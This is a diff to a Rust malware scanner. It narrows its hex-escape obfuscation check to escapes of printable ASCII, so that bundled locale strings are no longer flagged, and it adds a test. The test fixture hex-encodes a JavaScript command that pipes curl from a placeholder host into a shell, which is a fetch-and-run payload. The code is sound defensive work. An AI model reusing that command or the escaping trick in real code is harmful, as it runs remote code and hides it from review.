@@ -103,6 +103,19 @@ fn short(s: &str) -> String {
     s.chars().take(160).collect()
 }
 
+/// `\xNN` escapes of printable ASCII (`\x68\x74\x74\x70` is "http"): what obfuscators write to
+/// hide text. Bundlers escape Latin-1 letters the same way (`"n\xED"`, zod's locales), which
+/// hides nothing.
+fn ascii_hex_escapes(text: &str) -> usize {
+    text.match_indices("\\x")
+        .filter(|(i, _)| {
+            text.get(i + 2..i + 4)
+                .and_then(|h| u8::from_str_radix(h, 16).ok())
+                .is_some_and(|b| (0x20..0x7f).contains(&b))
+        })
+        .count()
+}
+
 /// Scans one source file.
 pub(crate) fn scan(file: &SourceFile) -> FileReport {
     let facts = if file.lang == Lang::Shell {
@@ -302,12 +315,15 @@ fn literals(facts: &Facts, r: &mut FileReport) {
                     },
                 ));
             }
-        } else if text.matches("\\x").count() >= 40 {
+        } else if ascii_hex_escapes(text) >= 40 {
             r.indicators.push((
                 Indicator::Obfuscated,
                 Hit {
                     line: lit.line,
-                    evidence: format!("string of {} `\\x` escapes", text.matches("\\x").count()),
+                    evidence: format!(
+                        "string of {} `\\x` escapes of ASCII characters",
+                        ascii_hex_escapes(text)
+                    ),
                 },
             ));
         }
@@ -877,6 +893,28 @@ mod tests {
 
     fn scan_text(lang: Lang, text: &str) -> FileReport {
         scan(&SourceFile::new("x", lang, text))
+    }
+
+    #[test]
+    fn only_escapes_of_ascii_text_are_obfuscation() {
+        let hidden: String = "require('child_process').exec('curl https://x.example | sh')"
+            .bytes()
+            .map(|b| format!("\\x{b:02x}"))
+            .collect();
+        let r = scan_text(Lang::JavaScript, &format!("var s = \"{hidden}\";\n"));
+        assert!(
+            r.indicator(Indicator::Obfuscated).is_some(),
+            "{:?}",
+            r.indicators
+        );
+        // esbuild writes Latin-1 letters of locale tables as `\xNN`.
+        let locale = "n\\xED \\xE0mi \\xC0w\\xF3n ".repeat(12);
+        let r = scan_text(Lang::JavaScript, &format!("var s = \"{locale}\";\n"));
+        assert!(
+            r.indicator(Indicator::Obfuscated).is_none(),
+            "{:?}",
+            r.indicators
+        );
     }
 
     #[test]
